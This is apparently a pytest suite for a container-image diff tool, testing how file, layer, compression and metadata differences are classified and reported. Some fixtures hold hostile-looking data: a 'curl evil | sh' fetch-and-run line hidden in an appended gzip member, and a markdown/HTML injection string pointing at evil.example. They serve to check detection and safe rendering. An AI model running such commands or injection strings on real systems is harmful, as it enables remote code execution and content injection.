"""inspectr diff: structure, causes, acceptance, presenters, on images built in tests."""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from builders import TarBuilder, write_docker_archive, write_oci_layout
from inspectr.session import LocalPool, Session
from inspectr import open_image
from inspectr.cli import cli
from inspectr.diff.difference import Cause, Verdict
from inspectr.diff.engine import compare_images, diff_images, index_pair
from inspectr.diff.options import Acceptance, DiffOptions, compile_glob
from inspectr.present.diff_json import difference_to_json, load_difference

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"


def layout(tmp: Path, name: str, *layers: TarBuilder, **kw: object) -> str:
    return str(write_oci_layout(tmp / name, [layer.finish() for layer in layers], **kw).path)


def base(mtime: int = 0, motd: str = "hello\n") -> TarBuilder:
    return (TarBuilder().add_dir("etc", mtime=mtime).add_file("etc/motd", motd, mtime=mtime)
            .add_file("etc/passwd", "root:x:0:0::/root:/bin/sh\n", mtime=mtime)
            .add_dir("bin", mtime=mtime).add_file("bin/tool", b"\x00binary\x01" * 50, mode=0o755, mtime=mtime))


def diff(a: str, b: str, options: DiffOptions = DiffOptions()):  # type: ignore[no-untyped-def]
    return diff_images(open_image(a), open_image(b), options)


def test_same_image_written_twice_is_identical(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base())
    b = layout(tmp_path, "b", base())
    assert diff(a, b) is None


def test_mtime_only_changes_are_timestamps_and_equivalent_under_semantic(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(mtime=1000))
    b = layout(tmp_path, "b", base(mtime=2000))
    d = diff(a, b)
    assert d is not None and d.verdict is Verdict.DIFFERENT
    files = [c for c in d.changes if c.subject == "file"]
    assert {c.path for c in files} == {"etc", "etc/motd", "etc/passwd", "bin", "bin/tool"}
    assert all(c.cause is Cause.TIMESTAMP and [f.name for f in c.fields] == ["mtime"] for c in files)
    assert diff(a, b, DiffOptions.semantic()).verdict is Verdict.EQUIVALENT


def test_content_change_names_the_path_with_a_text_diff_and_provenance(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(), TarBuilder().add_file("etc/app.conf", "port=1\nhost=a\n"))
    b = layout(tmp_path, "b", base(), TarBuilder().add_file("etc/app.conf", "port=2\nhost=a\n"))
    d = diff(a, b, DiffOptions.semantic())
    assert d.verdict is Verdict.DIFFERENT
    (change,) = d.unaccepted
    assert (change.path, change.change, change.cause) == ("etc/app.conf", "modified", Cause.CONTENT)
    assert {f.name for f in change.fields} == {"sha256"}
    assert change.a.layer == 1 and change.b.layer == 1
    assert "-port=1\n+port=2\n" in change.content_diff


def test_binary_change_gets_a_one_line_summary(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base())
    b = layout(tmp_path, "b", TarBuilder().add_dir("etc").add_file("etc/motd", "hello\n")
               .add_file("etc/passwd", "root:x:0:0::/root:/bin/sh\n").add_dir("bin")
               .add_file("bin/tool", b"\x00binary\x02" * 50, mode=0o755))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    assert change.path == "bin/tool" and change.content_diff is None
    assert change.note.startswith("binary: 400 bytes sha256:")


def test_mode_owner_and_capability_changes_are_listed_field_by_field(tmp_path: Path) -> None:
    cap = b"\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    a = layout(tmp_path, "a", base())
    b = layout(tmp_path, "b", TarBuilder().add_dir("etc").add_file("etc/motd", "hello\n")
               .add_file("etc/passwd", "root:x:0:0::/root:/bin/sh\n").add_dir("bin")
               .add_pax({"SCHILY.xattr.security.capability": cap})
               .add_file("bin/tool", b"\x00binary\x01" * 50, mode=0o4755, uid=7))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    fields = {f.name: (f.a, f.b) for f in change.fields}
    assert fields["mode"] == (0o755, 0o4755)
    assert fields["uid"] == (0, 7)
    assert fields["xattr:security.capability"][0] is None


def test_renamed_file_is_one_change(tmp_path: Path) -> None:
    payload = "a long enough payload\n" * 10
    a = layout(tmp_path, "a", base(), TarBuilder().add_file("opt/old-name.txt", payload))
    b = layout(tmp_path, "b", base(), TarBuilder().add_file("opt/new-name.txt", payload))
    renames = [c for c in diff(a, b).changes if c.change == "renamed"]
    assert len(renames) == 1 and renames[0].renamed_from == "opt/old-name.txt" and renames[0].path == "opt/new-name.txt"
    assert not [c for c in diff(a, b).changes if c.subject == "file" and c.change in ("added", "removed") and "name" in c.path]


def test_squashed_image_has_no_false_file_differences(tmp_path: Path) -> None:
    upper = TarBuilder().add_file("etc/motd", "new\n").add_whiteout("etc/passwd").add_file("etc/added", "x\n")
    a = layout(tmp_path, "a", base(), upper)
    squashed = (TarBuilder().add_dir("etc").add_file("etc/motd", "new\n").add_file("etc/added", "x\n")
                .add_dir("bin").add_file("bin/tool", b"\x00binary\x01" * 50, mode=0o755))
    b = layout(tmp_path, "b", squashed)
    d = diff(a, b)
    assert [c for c in d.changes if c.subject == "file"] == []
    assert {c.cause for c in d.changes} <= {Cause.LAYER_BOUNDARIES, Cause.HISTORY}
    hidden = {c.path for c in d.changes if c.subject == "hidden"}
    assert hidden == {"etc/motd", "etc/passwd"}  # A ships the old bytes in layer 0
    assert diff(a, b, DiffOptions.semantic()).verdict is Verdict.EQUIVALENT


def test_whiteout_hidden_secret_is_reported_as_hidden_content(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base().add_file("root/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\n"),
               TarBuilder().add_whiteout("root/.ssh/id_rsa"))
    b = layout(tmp_path, "b", base(), TarBuilder().add_dir("root"))
    d = diff(a, b)
    hidden = [c for c in d.changes if c.subject == "hidden"]
    assert [(c.path, c.change, c.a.layer) for c in hidden] == [("root/.ssh/id_rsa", "removed", 0)]


def test_compression_only_is_equivalent_by_default(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(), compression="gzip")
    b = layout(tmp_path, "b", base(), compression="zstd")
    d = diff(a, b)
    assert d.verdict is Verdict.EQUIVALENT
    assert {c.cause for c in d.changes} == {Cause.COMPRESSION}


def test_docker_archive_against_oci_layout_is_equivalent_with_format_named(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(), compression="none")
    b = tmp_path / "b.tar"
    write_docker_archive(b, [base().finish()])
    d = diff(a, str(b))
    assert d.verdict is Verdict.EQUIVALENT
    assert Cause.IMAGE_FORMAT in {c.cause for c in d.changes}


def test_tar_order_only_is_classed_as_tar_format(tmp_path: Path) -> None:
    one = TarBuilder().add_file("a", "1").add_file("b", "2")
    two = TarBuilder().add_file("b", "2").add_file("a", "1")
    d = diff(layout(tmp_path, "a", one), layout(tmp_path, "b", two))
    assert [(c.subject, c.cause) for c in d.changes] == [("layer", Cause.TAR_FORMAT)]
    assert "different order" in d.changes[0].note


def test_shadow_lastchange_and_log_files_are_noise(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base().add_file("etc/shadow", "root:*:19000:0:99999:7:::\n")
               .add_file("var/log/dpkg.log", "install a\n"))
    b = layout(tmp_path, "b", base().add_file("etc/shadow", "root:*:19999:0:99999:7:::\n")
               .add_file("var/log/dpkg.log", "install b\n"))
    d = diff(a, b)
    causes = {c.path: c.cause for c in d.changes if c.subject == "file"}
    assert causes == {"etc/shadow": Cause.NOISE, "var/log/dpkg.log": Cause.NOISE}
    assert diff(a, b, DiffOptions(ignore=frozenset({Cause.NOISE}))).verdict is Verdict.EQUIVALENT


def _zip(stamp: tuple[int, ...]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("META-INF/MANIFEST.MF", stamp), "Manifest-Version: 1.0\n")
        zf.writestr(zipfile.ZipInfo("app/Main.class", stamp), b"\xca\xfe\xba\xbe")
    return buf.getvalue()


def test_jar_differing_only_in_member_timestamps_is_nested_archive_metadata(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base().add_file("opt/app.jar", _zip((2020, 1, 1, 0, 0, 0))))
    b = layout(tmp_path, "b", base().add_file("opt/app.jar", _zip((2024, 6, 1, 12, 0, 0))))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    assert change.cause is Cause.NESTED_ARCHIVE and "metadata" in change.note


@pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc not installed")
def test_elf_files_differing_only_in_build_id_are_classed_build_id(tmp_path: Path) -> None:
    src = tmp_path / "m.c"
    src.write_text("int main(void){return 0;}\n")
    bins = []
    for i, bid in enumerate(("0x1111111111111111", "0x2222222222222222")):
        out = tmp_path / f"m{i}"
        subprocess.run(["gcc", "-O1", f"-Wl,--build-id={bid}", str(src), "-o", str(out)], check=True)
        bins.append(out.read_bytes())
    assert bins[0] != bins[1]
    a = layout(tmp_path, "a", base().add_file("usr/bin/m", bins[0], mode=0o755))
    b = layout(tmp_path, "b", base().add_file("usr/bin/m", bins[1], mode=0o755))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    assert change.cause is Cause.BUILD_ID


def test_config_env_is_compared_as_a_set(tmp_path: Path) -> None:
    img = open_image(FIXTURES / "oci-busybox")
    pair = index_pair(img, img)
    assert compare_images(pair, DiffOptions()).changes == []


def test_excludes_and_policy_accept_but_never_drop(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(), TarBuilder().add_file("etc/app.conf", "1\n").add_file("var/lib/x/state", "a"))
    b = layout(tmp_path, "b", base(), TarBuilder().add_file("etc/app.conf", "2\n").add_file("var/lib/x/state", "b"))
    d = diff(a, b, DiffOptions.semantic(excludes=("etc/app.conf",),
                                         acceptances=(Acceptance("var/lib/**", "state differs per build", Cause.CONTENT),)))
    assert d.verdict is Verdict.EQUIVALENT
    accepted = {c.path: c.accepted_by for c in d.changes if c.subject == "file"}
    assert accepted == {"etc/app.conf": "--exclude etc/app.conf", "var/lib/x/state": "policy: state differs per build"}


def test_expired_acceptance_accepts_nothing(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(), TarBuilder().add_file("etc/app.conf", "1\n"))
    b = layout(tmp_path, "b", base(), TarBuilder().add_file("etc/app.conf", "2\n"))
    rule = Acceptance("etc/**", "temporary", expires=dt.date(2020, 1, 1))
    d = diff(a, b, DiffOptions.semantic(acceptances=(rule,)))
    assert d.verdict is Verdict.DIFFERENT


def test_glob_rules() -> None:
    assert compile_glob("var/log/**").match("var/log/apt/history.log")
    assert compile_glob("**/*.pyc").match("usr/lib/python3/x/__pycache__/a.cpython-311.pyc")
    assert compile_glob("**/*.pyc").match("a.pyc")
    assert not compile_glob("etc/*.conf").match("etc/sub/x.conf")
    assert compile_glob("/etc").match("etc/passwd")  # a directory matches what is below it
    assert not compile_glob("etc").match("etcetera")


def test_json_round_trips(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(mtime=5), TarBuilder().add_file("x", "1\n"))
    b = layout(tmp_path, "b", base(mtime=6), TarBuilder().add_file("x", "2\n"))
    d = diff(a, b)
    doc = json.loads(json.dumps(difference_to_json(d)))
    assert doc["verdict"] == "different" and doc["counts"]["timestamp"] >= 1
    assert all(not c["path"].startswith("/") for c in doc["changes"])
    again = load_difference(doc)
    assert difference_to_json(again) == difference_to_json(d)


def test_cli_exit_codes_and_formats(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(mtime=1))
    b = layout(tmp_path, "b", base(mtime=2))
    runner = CliRunner()
    assert runner.invoke(cli, ["diff", a, a]).exit_code == 0
    result = runner.invoke(cli, ["diff", a, b])
    assert result.exit_code == 1 and result.stdout.startswith("different")
    assert runner.invoke(cli, ["diff", "--semantic", a, b]).exit_code == 0
    assert runner.invoke(cli, ["diff", "--ignore-timestamp", a, b]).exit_code == 0
    doc = json.loads(runner.invoke(cli, ["diff", a, b, "--format", "json"]).stdout)
    assert doc["verdict"] == "different" and doc["unaccepted_counts"] == {"timestamp": 5}
    md = runner.invoke(cli, ["diff", a, b, "--format", "markdown"]).stdout
    assert md.startswith("### ❌ inspectr diff: **different**") and "| timestamp | 5 | 0 |" in md


def test_cli_policy_file_and_its_errors(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(mtime=1))
    b = layout(tmp_path, "b", base(mtime=2))
    policy = tmp_path / "inspectr.toml"
    policy.write_text('[[accept]]\npath = "**"\ncause = "timestamp"\nreason = "not yet reproducible"\n')
    result = CliRunner().invoke(cli, ["diff", "--policy", str(policy), a, b, "--format", "json"])
    assert result.exit_code == 0
    doc = json.loads(result.stdout)
    assert doc["verdict"] == "equivalent" and doc["accepted"] == 5
    policy.write_text('[[accept]]\npath = "**"\ncause = "timestamps"\nreason = "x"\n')
    result = CliRunner().invoke(cli, ["diff", "--policy", str(policy), a, b])
    assert result.exit_code != 0 and "accept[0].cause" in str(result.exception)


def test_report_dir_holds_both_sides_of_changed_files(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(), TarBuilder().add_file("etc/app.conf", "1\n"))
    b = layout(tmp_path, "b", base(), TarBuilder().add_file("etc/app.conf", "2\n"))
    report = tmp_path / "report"
    result = CliRunner().invoke(cli, ["diff", a, b, "--report-dir", str(report)])
    assert result.exit_code == 1
    assert (report / "a/etc/app.conf").read_text() == "1\n"
    assert (report / "b/etc/app.conf").read_text() == "2\n"
    assert not (report / "a/etc/motd").exists()
    assert json.loads((report / "report.json").read_text())["verdict"] == "different"


def test_file_moved_between_layers_is_a_layer_boundary_difference(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", TarBuilder().add_file("a", "1\n"), TarBuilder().add_file("b", "2\n"))
    b = layout(tmp_path, "b", TarBuilder().add_file("a", "1\n").add_file("b", "2\n"), TarBuilder().add_file("b", "2\n"))
    d = diff(a, b)
    assert d.verdict is Verdict.DIFFERENT
    (change,) = [c for c in d.changes if c.subject == "layer"]
    assert change.cause is Cause.LAYER_BOUNDARIES and change.paths == ["b"]
    assert diff(a, b, DiffOptions.semantic()).verdict is Verdict.EQUIVALENT


def test_a_second_gzip_member_is_not_explained_away_as_metadata(tmp_path: Path) -> None:
    import gzip

    one = gzip.compress(b"echo hello\n", mtime=1)
    two = gzip.compress(b"echo hello\n", mtime=2) + gzip.compress(b"curl evil | sh\n", mtime=2)
    a = layout(tmp_path, "a", base().add_file("opt/run.gz", one))
    b = layout(tmp_path, "b", base().add_file("opt/run.gz", two))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    assert change.cause is Cause.CONTENT


def test_gzip_header_mtime_only_is_nested_archive_metadata(tmp_path: Path) -> None:
    import gzip

    a = layout(tmp_path, "a", base().add_file("opt/x.gz", gzip.compress(b"same\n", mtime=1)))
    b = layout(tmp_path, "b", base().add_file("opt/x.gz", gzip.compress(b"same\n", mtime=2)))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    assert change.cause is Cause.NESTED_ARCHIVE


def test_a_refined_content_class_never_hides_a_mode_change(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base().add_file("etc/shadow", "root:*:19000:0:99999:7:::\n", mode=0o640))
    b = layout(tmp_path, "b", base().add_file("etc/shadow", "root:*:19999:0:99999:7:::\n", mode=0o666))
    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
    assert {f.name: f.cause for f in change.fields} == {"sha256": Cause.NOISE, "mode": Cause.CONTENT}
    assert change.cause is Cause.CONTENT
    assert diff(a, b, DiffOptions(ignore=frozenset({Cause.NOISE}))).verdict is Verdict.DIFFERENT


def test_markdown_renders_hostile_names_inert(tmp_path: Path) -> None:
    evil = "![x](https://evil.example/p.png) <img src=x> </details>"
    a = layout(tmp_path, "a", base())
    b = layout(tmp_path, "b", base().add_symlink("etc/link", evil))
    md = CliRunner().invoke(cli, ["diff", a, b, "--format", "markdown"]).stdout
    assert "<img" not in md and "](https" not in md and "</details>\n\n</details>" not in md
    assert "&lt;img src=x&gt;" in md


def test_policy_field_rule_accepts_only_changes_of_that_field_alone(tmp_path: Path) -> None:
    a = layout(tmp_path, "a", base(mtime=1), TarBuilder().add_file("x", "1\n", mtime=1))
    b = layout(tmp_path, "b", base(mtime=2), TarBuilder().add_file("x", "2\n", mtime=2))
    d = diff(a, b, DiffOptions(acceptances=(Acceptance("**", "mtimes only", field_name="mtime"),)))
    open_paths = {c.path for c in d.unaccepted if c.subject == "file"}
    assert open_paths == {"x"}  # content and mtime changed: not accepted by an mtime rule


def test_policy_expiry_must_be_a_date(tmp_path: Path) -> None:
    from inspectr.diff.options import load_policy
    from inspectr.errors import UsageError

    policy = tmp_path / "p.toml"
    policy.write_text('[[accept]]\npath = "**"\nreason = "r"\nexpires = 2027-01-31T00:00:00Z\n')
    with pytest.raises(UsageError, match=r"accept\[0\]\.expires: must be a TOML date"):
        load_policy(policy)


def _big_layer(tag: str) -> TarBuilder:
    # Incompressible bytes, so the pair passes spool_contents' worker-process threshold.
    import random

    rng = random.Random(tag)
    builder = TarBuilder().add_dir("data")
    for i in range(6):
        builder.add_file(f"data/blob{i}", rng.randbytes(4 << 20))
    return builder.add_file("data/notes.txt", f"version {tag}\nshared line\n")


@pytest.mark.parametrize("workers", [1, 2])
def test_second_pass_per_layer_in_workers_gives_the_text_diff(tmp_path: Path, workers: int) -> None:
    from inspectr.fs.content import content_sources, spool_contents

    a = open_image(layout(tmp_path, "a", base(), _big_layer("one")))
    b = open_image(layout(tmp_path, "b", base(), _big_layer("two")))
    result = diff_images(a, b, DiffOptions())
    notes = next(c for c in result.changes if c.path == "data/notes.txt")
    assert "-version one\n+version two\n" in notes.content_diff
    assert sum(layer.blob.length for layer in b.layers) > 16 << 20  # the default runs in workers

    # A file whose bytes no longer match the indexed digest is an error, from a worker too.
    pair = index_pair(a, b)
    node = pair.tree_b.get("data/notes.txt")
    jobs = [(b.layers[n], b.limits, {off: (str(tmp_path / f"out{inode.id}{suffix}"), b"\0" * 32) for off, inode in by_off.items()})
            for suffix in ("-1", "-2") for n, by_off in content_sources([node.inode]).items()]  # two jobs: the pool runs
    with pytest.raises(Exception, match="content of a file changed since it was indexed"):
        spool_contents(jobs, session=Session(executor=LocalPool(workers)))
    good = [(ref, lim, {off: (p, node.inode.sha256) for off, (p, _) in t.items()}) for ref, lim, t in jobs]
    spool_contents(good, session=Session(executor=LocalPool(workers)))
    for suffix in ("-1", "-2"):
        assert (tmp_path / f"out{node.inode.id}{suffix}").read_text() == "version two\nshared line\n"
